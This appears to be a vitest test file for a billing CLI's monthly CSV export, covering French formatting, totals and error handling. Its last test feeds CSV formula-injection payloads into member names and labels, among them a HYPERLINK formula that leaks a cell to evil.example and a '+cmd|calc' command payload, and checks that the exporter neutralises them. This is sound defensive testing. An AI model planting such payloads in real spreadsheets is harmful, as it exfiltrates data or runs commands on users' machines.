import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { cli, tempDir } from '../helpers/cli.js';
import { openDatabase } from '../../src/db/connection.js';
import { insertMember } from '../helpers/factory.js';
import { issue } from '../helpers/documents.js';
import { writeTx } from '../../src/db/audit.js';
import { issueCreditNote } from '../../src/invoicing/core.js';
import { testActor } from '../helpers/db.js';
import { parseEuros } from '../../src/rules/money.js';

function club() {
  const dir = tempDir();
  const db = path.join(dir, 'club.db');
  const conn = openDatabase(db);
  const a = insertMember(conn, { lastName: 'Durand; "le jeune"' });
  const inv = issue(conn, a, '2026-12-01', [
    { kind: 'subscription', label: 'Abonnement', period: '2026-12', ttcCents: 25_000 },
    { kind: 'penalty', label: 'Pénalités', period: null, ttcCents: 333 },
  ]);
  issue(conn, a, '2026-12-15', [{ kind: 'charge', label: 'Technicien, 1 h', period: null, ttcCents: 9_001 }]);
  issue(conn, a, '2027-01-02', [{ kind: 'charge', label: 'Janvier', period: null, ttcCents: 7_000 }]);
  const id = conn.sqlite.prepare('select id from invoices where number = ?').pluck().get(inv) as number;
  writeTx(conn, (tx) =>
    issueCreditNote(tx, testActor, { invoiceId: id, issuedOn: '2026-12-20', lines: [{ kind: 'credit', label: 'Geste', ttcCents: 1_000 }] }),
  );
  const db_totals = conn.sqlite
    .prepare(
      "select sum(case kind when 'credit_note' then -total_ttc_cents else total_ttc_cents end) as ttc, sum(case kind when 'credit_note' then -total_ht_cents else total_ht_cents end) as ht from invoices where substr(issued_on,1,7) = '2026-12'",
    )
    .get() as { ttc: number; ht: number };
  conn.close();
  return { db, db_totals, inv };
}

describe("bill export --format csv: the accountant's month", () => {
  it('French conventions: BOM, ;, decimal comma, DD/MM/YYYY; totals equal the database; credit notes negative', async () => {
    const c = club();
    const out = path.join(tempDir(), 'compta.csv');
    const r = await cli(c.db, ['--json', 'bill', 'export', '--month', '2026-12', '--format', 'csv', '--french', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.json()).toMatchObject({ lines: 4, documents: 3, ttc_cents: c.db_totals.ttc, ht_cents: c.db_totals.ht });
    const bytes = fs.readFileSync(out);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const parsed = Papa.parse<Record<string, string>>(bytes.toString('utf8').slice(1), { header: true, delimiter: ';', skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const rows = parsed.data;
    expect(rows).toHaveLength(4);
    expect(rows[0]).toMatchObject({ number: c.inv, issued_on: '01/12/2026', ttc: '250,00', ht: '208,33', vat: '41,67', vat_rate: '20,00', period: '2026-12' });
    expect(rows[0]!.member).toContain('"le jeune"');
    expect(rows[1]).toMatchObject({ line_kind: 'penalty', vat_rate: '0,00', vat: '0,00', ttc: '3,33' });
    expect(rows.find((x) => x.kind === 'credit_note')).toMatchObject({ ttc: '-10,00' });
    const sum = (k: string) => rows.reduce((s, x) => s + parseEuros(x[k]!)!, 0);
    expect(sum('ttc')).toBe(c.db_totals.ttc);
    expect(sum('ht')).toBe(c.db_totals.ht);
    expect(sum('ht') + sum('vat')).toBe(sum('ttc'));
  });

  it('plain CSV on stdout by default; --json needs --out', async () => {
    const c = club();
    const r = await cli(c.db, ['bill', 'export', '--month', '2026-12', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const lines = r.stdout.trim().split('\r\n');
    expect(lines[0]).toBe('number,kind,issued_on,pay_by,member_no,member,line_kind,label,period,ht,vat_rate,vat,ttc,invoice_paid,invoice_outstanding');
    expect(lines).toHaveLength(5);
    expect(r.stdout).toContain('"Technicien, 1 h"');
    expect((await cli(c.db, ['--json', 'bill', 'export', '--month', '2026-12', '--format', 'csv'])).code).toBe(2);
  });

  it('stdout is the file byte for byte, whatever the locale: ISO dates stay ISO, a stored control character is data', async () => {
    const c = club();
    const conn = openDatabase(c.db);
    // a label written before control characters were refused at input (issue 12)
    conn.sqlite.prepare("update members set first_name = 'Ana' || char(1) || 'Lu'").run();
    conn.close();
    for (const env of [{ LANG: 'fr_FR.UTF-8' }, { LANG: 'C' }]) {
      for (const french of [[], ['--french']]) {
        const out = path.join(tempDir(), 'compta.csv');
        const file = await cli(c.db, ['bill', 'export', '--month', '2026-12', '--format', 'csv', ...french, '--out', out], { env });
        expect(file.code, file.stderr).toBe(0);
        const piped = await cli(c.db, ['bill', 'export', '--month', '2026-12', '--format', 'csv', ...french], { env });
        expect(piped.code, piped.stderr).toBe(0);
        expect(piped.stdout).toBe(fs.readFileSync(out, 'utf8'));
        if (french.length === 0) expect(piped.stdout).toContain(',2026-12-01,2026-12-11,');
      }
    }
  });

  it('an --out that cannot be a file: a directory, a missing folder — one line, exit 2, nothing written (csv and sepa alike)', async () => {
    const c = club();
    const dir = tempDir();
    for (const format of ['csv', 'sepa']) {
      const isDir = await cli(c.db, ['bill', 'export', '--month', '2026-12', '--format', format, '--out', dir], { env: { LANG: 'C' } });
      expect(isDir.code, format).toBe(2);
      expect(isDir.stderr.trim()).toBe(`error: --out ${dir}: is a directory, a file name is expected`);
      const missing = path.join(dir, 'nope', 'x.out');
      const noDir = await cli(c.db, ['bill', 'export', '--month', '2026-12', '--format', format, '--out', missing], { env: { LANG: 'C' } });
      expect(noDir.code, format).toBe(2);
      expect(noDir.stderr.trim()).toBe(`error: --out ${path.dirname(missing)}: no such directory`);
    }
    expect(fs.readdirSync(dir)).toEqual([]);
  });
});

describe('formula injection (issue 28, item 10; OWASP "CSV injection")', () => {
  it('names and labels beginning with = + - @ tab or CR come out as text, not formulas; amounts stay numbers', async () => {
    const dir = tempDir();
    const db = path.join(dir, 'club.db');
    const conn = openDatabase(db);
    const names = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', '+33 1 23', '-2+3', '@SUM(A1:A9)', '\tTab', '\rRetour'];
    const labels = ['=1+1', '+cmd|calc', '-x', '@x', '\tx', 'Abonnement'];
    for (let k = 0; k < names.length; k++) {
      const m = insertMember(conn, { firstName: names[k]!, lastName: 'Durand' });
      issue(conn, m, '2026-12-01', [{ kind: 'charge', label: labels[k]!, period: null, ttcCents: 1_000 }]);
    }
    const credited = conn.sqlite.prepare('select id from invoices order by id limit 1').pluck().get() as number;
    writeTx(conn, (tx) =>
      issueCreditNote(tx, testActor, { invoiceId: credited, issuedOn: '2026-12-20', lines: [{ kind: 'credit', label: 'Geste', ttcCents: 500 }] }),
    );
    conn.close();
    for (const french of [false, true]) {
      const out = path.join(tempDir(), 'compta.csv');
      const r = await cli(db, ['bill', 'export', '--month', '2026-12', '--format', 'csv', ...(french ? ['--french'] : []), '--out', out]);
      expect(r.code, r.stderr).toBe(0);
      const text = fs.readFileSync(out, 'utf8').replace(/^\ufeff/, '');
      const parsed = Papa.parse<Record<string, string>>(text, { header: true, delimiter: french ? ';' : ',', skipEmptyLines: true });
      expect(parsed.errors).toEqual([]);
      const rows = parsed.data;
      expect(rows).toHaveLength(names.length + 1);
      for (const row of rows) for (const col of ['member', 'label', 'number', 'period']) expect(row[col]!, `${col}: ${row[col]}`).not.toMatch(/^[=+\-@\t\r]/);
      // the value is kept, behind a quote: a spreadsheet shows it as typed
      expect(rows.map((r) => r.member)).toEqual(expect.arrayContaining(names.map((n) => `'${n} Durand`)));
      expect(rows.map((r) => r.label)).toEqual(expect.arrayContaining(["'=1+1", "'+cmd|calc", "'-x", "'@x", "'\tx", 'Abonnement']));
      // the credit note's amounts stay negative numbers
      expect(rows.find((r) => r.kind === 'credit_note')!.ttc).toBe(french ? '-5,00' : '-5.00');
    }
  });
});
